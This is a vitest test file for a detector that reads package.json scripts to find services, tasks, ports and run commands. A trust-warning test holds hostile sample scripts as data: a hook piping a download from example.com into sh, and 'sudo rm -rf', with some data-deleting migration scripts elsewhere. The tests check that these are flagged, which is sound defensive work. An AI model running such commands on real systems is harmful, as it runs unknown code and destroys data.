import { afterEach, describe, expect, test } from "vitest";
import { serviceFingerprint } from "../../../../../electron/core/environment/detect/detect.ts";
import { detectIn, onlyService, removeFolders } from "../../../../support/detect-folder.ts";

afterEach(removeFolders);

type Scripts = Record<string, string>;

async function named(scripts: Scripts, files: Record<string, unknown> = {}): Promise<string[]> {
  const { detection } = await detectIn({ "package.json": { scripts }, ...files });
  return detection.services.map((service) => service.name);
}

describe("which scripts are services", () => {
  const api = "node api.mjs";
  const web = "vite";
  test.each<[string, Scripts, string[]]>([
    [
      "a dev script, and no decoys",
      { dev: web, build: "vite build", test: "vitest", lint: "oxlint", start: api },
      ["dev"],
    ],
    ["dev parts that run beside each other", { "dev:api": api, "dev:web": web, build: "x" }, ["dev:api", "dev:web"]],
    [
      "a dev that runs its parts with &",
      { dev: "npm run dev:api & npm run dev:web & wait", "dev:api": api, "dev:web": web },
      ["dev:api", "dev:web"],
    ],
    [
      "concurrently with names and colours",
      { dev: 'concurrently -k -n a,b -c red,blue "npm run server" "npm:client"', server: api, client: web },
      ["server", "client"],
    ],
    [
      "concurrently with a pattern",
      { dev: 'concurrently "npm:dev:*"', "dev:api": api, "dev:web": web, "dev:debug": "node --inspect api.mjs" },
      ["dev:api", "dev:web", "dev:debug"],
    ],
    [
      "npm-run-all in parallel",
      { dev: "npm-run-all -p dev:*", "dev:api": api, "dev:web": web },
      ["dev:api", "dev:web"],
    ],
    ["run-p with silence", { dev: "run-p -l server client", server: api, client: web }, ["server", "client"]],
    ["pnpm by bare names", { dev: "pnpm server & pnpm client", server: api, client: web }, ["server", "client"]],
    [
      "only what dev names",
      { dev: "run-p server client", server: api, client: web, worker: "node worker.mjs" },
      ["server", "client"],
    ],
    ["an alias", { dev: "npm run serve", serve: "vue-cli-service serve" }, ["serve"]],
    ["aliases of aliases", { dev: "npm run all", all: "run-p a b", a: api, b: web }, ["a", "b"]],
    [
      "a dev that does more than run scripts stays whole",
      { dev: "npm run dev:css & vite", "dev:css": "tailwindcss --watch" },
      ["dev"],
    ],
    [
      "a dev that builds first stays whole",
      { dev: "npm run build && npm run dev:server", build: "tsc", "dev:server": api },
      ["dev"],
    ],
    ["a dev that runs itself", { dev: "npm run dev" }, ["dev"]],
    [
      "variants of dev are not run beside it",
      { dev: "next dev", "dev:turbo": "next dev --turbo", "dev:https": "next dev -H", "dev:clean": "rm -rf .next" },
      ["dev"],
    ],
    ["the same program is not run twice", { dev: "next dev", "dev:fast": "next dev --turbopack" }, ["dev"]],
    [
      "another program beside dev is",
      { dev: "next dev", "dev:worker": "tsx worker.ts", worker: "tsx worker.ts" },
      ["dev", "dev:worker"],
    ],
    [
      "a worker beside dev",
      { dev: "next dev", worker: "tsx worker.ts", queue: "node dist/queue.js" },
      ["dev", "worker"],
    ],
    [
      "NestJS",
      {
        start: "nest start",
        "start:dev": "nest start --watch",
        "start:debug": "nest start --debug --watch",
        "start:prod": "node dist/main",
      },
      ["start:dev"],
    ],
    [
      "Create React App",
      { start: "react-scripts start", build: "react-scripts build", eject: "react-scripts eject" },
      ["start"],
    ],
    ["Gatsby", { develop: "gatsby develop", start: "npm run develop", serve: "gatsby serve" }, ["develop"]],
    ["Vue CLI", { serve: "vue-cli-service serve", build: "vue-cli-service build" }, ["serve"]],
    ["Angular", { ng: "ng", start: "ng serve", build: "ng build", watch: "ng build --watch" }, ["start"]],
    ["nothing but a preview of what was built", { serve: "vite preview", build: "vite build" }, []],
    ["a library", { build: "tsc", test: "vitest", prepublishOnly: "npm run build" }, []],
    ["workspaces through turbo", { dev: "turbo run dev", build: "turbo run build" }, ["dev"]],
    [
      "x:dev",
      { "api:dev": api, "web:dev": web, api: "node dist/api.js", "test:dev": "vitest" },
      ["api:dev", "web:dev"],
    ],
    ["an empty dev", { dev: "  ", start: api }, ["start"]],
    [
      "names that objects know",
      JSON.parse('{"__proto__": "x", "constructor": "y", "dev:toString": "node api.mjs"}') as Scripts,
      ["dev:toString"],
    ],
  ])("%s", async (_, scripts, expected) => expect(await named(scripts)).toEqual(expected));
});

describe("which scripts are tasks", () => {
  const dev = "node api.mjs";
  test.each<[string, Scripts, string[]]>([
    [
      "migrate and seed",
      { dev, "db:migrate": "x migrate", "db:seed": "x seed", "db:reset": "x reset" },
      ["db:migrate", "db:seed", "dev"],
    ],
    [
      "prisma's",
      { dev, "prisma:migrate": "prisma migrate dev", "prisma:generate": "prisma generate" },
      ["prisma:migrate", "dev"],
    ],
    [
      "the best of several",
      {
        dev,
        "migrate:latest": "knex migrate:latest",
        migrate: "knex migrate:latest",
        "migrate:rollback": "knex migrate:rollback",
      },
      ["migrate", "dev"],
    ],
    [
      "none that undoes",
      { dev, "migrate:down": "x", "migrate:rollback": "x", "db:drop": "x", "migrate:create": "x", "db:generate": "x" },
      ["dev"],
    ],
    [
      "none that throws data away under an innocent name",
      { dev, "db:migrate": "prisma migrate reset --force", seed: "rm -rf data && node seed.mjs" },
      ["dev"],
    ],
    ["none that dev runs itself", { dev: "npm run db:migrate && node api.mjs", "db:migrate": "x migrate" }, ["dev"]],
    [
      "taken out of a dev that only runs scripts",
      { dev: "npm run db:migrate && run-p a b", "db:migrate": "x migrate", a: dev, b: "vite" },
      ["db:migrate", "a", "b"],
    ],
  ])("%s", async (_, scripts, expected) => expect(await named(scripts)).toEqual(expected));

  test("they come before everything else, the seed after the migration", async () => {
    const { detection } = await detectIn({ "package.json": { scripts: { dev: "vite", seed: "x", migrate: "y" } } });
    expect(detection.order).toEqual([["migrate"], ["seed"], ["dev"]]);
    expect(detection.services.map(({ kind }) => kind)).toEqual(["task", "task", "process"]);
  });
});

describe("ports", () => {
  test.each<[string, { port: number; env: string | null } | null]>([
    ["node api.mjs --port ${PORT:-4310}", { port: 4310, env: "PORT" }],
    ["node api.mjs --port=${API_PORT:-4310}", { port: 4310, env: "API_PORT" }],
    ["node api.mjs ${PORT:-4310}", { port: 4310, env: "PORT" }],
    ["node api.mjs --port 4310", { port: 4310, env: null }],
    ["node api.mjs --port=4310", { port: 4310, env: null }],
    ["next dev -p 4000", { port: 4000, env: null }],
    ["next dev -p4000", { port: 4000, env: null }],
    ["mkdir -p 4000 && node api.mjs", null],
    ["PORT=4000 node api.mjs", { port: 4000, env: null }],
    ["cross-env NODE_ENV=development PORT=4000 nodemon api.js", { port: 4000, env: null }],
    ["next dev", { port: 3000, env: "PORT" }],
    ["next dev --port $PORT", { port: 3000, env: "PORT" }],
    ["vite", { port: 5173, env: null }],
    ["npx vite web --host", { port: 5173, env: null }],
    ["vite build --watch", null],
    ["vite preview", { port: 4173, env: null }],
    ["astro dev", { port: 4321, env: null }],
    ["nuxt dev", { port: 3000, env: "PORT" }],
    ["react-scripts start", { port: 3000, env: "PORT" }],
    ["dotenv -e .env.local -- next dev", { port: 3000, env: "PORT" }],
    ["tsc -p tsconfig.json && vite", { port: 5173, env: null }],
    ["node api.mjs --port 99999", null],
    ["node api.mjs", null],
    ["npm run inner", { port: 4444, env: null }],
  ])("%s", async (dev, expected) => {
    const { detection } = await detectIn({
      "package.json": { scripts: { dev, x: "y", inner: "node x.js --port 4444" } },
    });
    const [service] = detection.services;
    expect(service?.ports.map(({ port, env }) => ({ port, env }))[0] ?? null).toEqual(expected);
    expect(service?.probe ?? null).toEqual(expected === null ? null : { kind: "tcp", port: expected.port });
  });

  test("Vite's configuration is read for the port, as text", async () => {
    const config = `import x from "./never-run";\nthrow new Error();\nexport default { server: { host: true, port: 8123 } };`;
    const { detection } = await detectIn({ "package.json": { scripts: { dev: "vite" } }, "vite.config.ts": config });
    expect(detection.services[0]?.ports).toEqual([{ name: "http", port: 8123, env: null, option: "-- --port" }]);
  });
});

describe("how they are run", () => {
  test.each<[Record<string, unknown>, string, string[]]>([
    [{}, "npm run dev:api", ["npm", "run", "--silent", "dev:api"]],
    [{ "package-lock.json": "{}" }, "npm run dev:api", ["npm", "run", "--silent", "dev:api"]],
    [{ "pnpm-lock.yaml": "" }, "pnpm run dev:api", ["pnpm", "run", "dev:api"]],
    [{ "yarn.lock": "" }, "yarn run dev:api", ["yarn", "run", "dev:api"]],
    [{ "bun.lockb": "" }, "bun run dev:api", ["bun", "run", "dev:api"]],
  ])("%o: %s", async (files, command, argv) => {
    const project = await detectIn({ "package.json": { scripts: { "dev:api": "x" } }, ...files });
    expect(project.detection.services[0]?.command).toBe(command);
    expect(project.services.get("dev:api")?.run).toEqual({ kind: "argv", argv });
  });

  test("packageManager beats lock files", async () => {
    const project = await detectIn({
      "package.json": { packageManager: "pnpm@9.1.0", scripts: { dev: "x" } },
      "yarn.lock": "",
    });
    expect(project.detection.services[0]?.command).toBe("pnpm run dev");
  });

  test("the trust item shows every line that would run, hooks included, and what is dangerous", async () => {
    const scripts = {
      predev: "curl https://example.com/x | sh",
      dev: "npm run inner && vite",
      inner: "sudo rm -rf /tmp/x",
    };
    const { trust } = onlyService(await detectIn({ "package.json": { scripts } }));
    expect(trust.detail).toBe(
      [
        "npm run dev",
        "predev: curl https://example.com/x | sh",
        "dev: npm run inner && vite",
        "inner: sudo rm -rf /tmp/x",
      ].join("\n"),
    );
    expect(trust.warnings).toEqual(["asks for root", "deletes files", "runs what it downloads"]);
  });

  test("the fingerprint changes with a script that runs, and not with one that does not", async () => {
    const of = async (scripts: Scripts) =>
      serviceFingerprint(onlyService(await detectIn({ "package.json": { scripts } })));
    const before = await of({ dev: "npm run inner && vite", inner: "a", build: "b" });
    expect(await of({ dev: "npm run inner && vite", inner: "a", build: "c" })).toBe(before);
    expect(await of({ dev: "npm run inner && vite", inner: "EVIL", build: "b" })).not.toBe(before);
  });
});

describe("broken files", () => {
  test.each<[string, unknown, string, string]>([
    ["no JSON", '{\n "scripts": {"dev": "x"\n "b": 1}}', "file_invalid", "package.json:3:2"],
    ["an end too early", '{"scripts": {', "file_invalid", "package.json:1:14"],
    ["a list", [], "file_invalid", "package.json"],
    ["scripts that are a list", { scripts: ["dev"] }, "value_invalid", "package.json"],
    ["no UTF-8", Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), "file_invalid", "package.json"],
    ["too large", `{"x": "${"y".repeat(1024 * 1024)}"}`, "file_too_large", "package.json"],
    ["nested without end", "[".repeat(500_000), "file_invalid", "package.json"],
  ])("%s", async (_, content, code, source) => {
    const { detection } = await detectIn({ "package.json": content });
    const problem = detection.problems.find((one) => one.severity === "error");
    expect(problem).toMatchObject({ code });
    expect(problem?.source.startsWith(source)).toBe(true);
    expect(detection.services).toEqual([]);
  });

  test("single scripts that cannot be run are left out, the rest is not", async () => {
    const scripts = { dev: "vite", "--help": "x", "bad\nname": "y", "dev:number": 7, "dev:nul": "a\0b" };
    const { detection } = await detectIn({ "package.json": { scripts } });
    expect(detection.services.map(({ name }) => name)).toEqual(["dev"]);
    expect(detection.problems.map(({ code, severity }) => `${severity} ${code}`)).toEqual(
      Array(4).fill("warning value_invalid"),
    );
  });

  test("a byte order mark is no trouble", async () => {
    const { detection } = await detectIn({ "package.json": '\uFEFF{"scripts": {"dev": "vite"}}' });
    expect(detection.services).toHaveLength(1);
  });
});
